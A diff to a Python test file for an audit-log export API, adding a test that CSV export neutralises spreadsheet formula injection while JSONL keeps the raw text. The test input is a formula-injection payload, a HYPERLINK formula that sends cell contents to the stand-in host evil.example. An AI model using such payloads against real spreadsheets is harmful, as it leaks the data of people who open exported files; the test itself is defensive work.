@@ -180,9 +180,23 @@ def test_export_csv__every_matching_event_as_an_attachment(
     rows = list(csv.DictReader(io.StringIO(_streamed(response))))
     assert [int(r["sequence"]) for r in rows] == [trail[i].sequence for i in (4, 3, 0)]
     assert list(rows[0]) == list(EXPORT_COLUMNS)
-    assert rows[0]["reason"] == '=1+1, "q"'  # quoted by the CSV writer, intact
+    assert rows[0]["reason"] == '\'=1+1, "q"'  # quoted by the CSV writer, formula made inert
     assert rows[2]["before"] == "null" and rows[2]["incident_id"] == ""
     assert rows[0]["hash"] == trail[4].hash
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_csv__spreadsheet_formulas_are_neutralised_but_jsonl_keeps_the_text(
+    api: Client, db: None, monkeypatch: pytest.MonkeyPatch, start: str
+) -> None:
+    reason = f'{start}HYPERLINK("https://evil.example/?leak="&A1, "open")'
+    _record(monkeypatch, MARCH, flag_key="checkout", reason=reason, actor=Actor.cli(f"{start}eve"))
+    csv_text = _streamed(send(api, "GET", "/api/v1/audit/?format=csv&flag=checkout"))
+    (csv_row,) = csv.DictReader(io.StringIO(csv_text))
+    assert (csv_row["reason"], csv_row["actor"]) == (f"'{reason}", f"'{start}eve")
+    jsonl_text = _streamed(send(api, "GET", "/api/v1/audit/?format=jsonl&flag=checkout"))
+    (event,) = [json.loads(line) for line in jsonl_text.splitlines()]
+    assert (event["reason"], event["actor"]) == (reason, f"{start}eve")
 
 
 def test_export_jsonl__one_json_object_per_event(
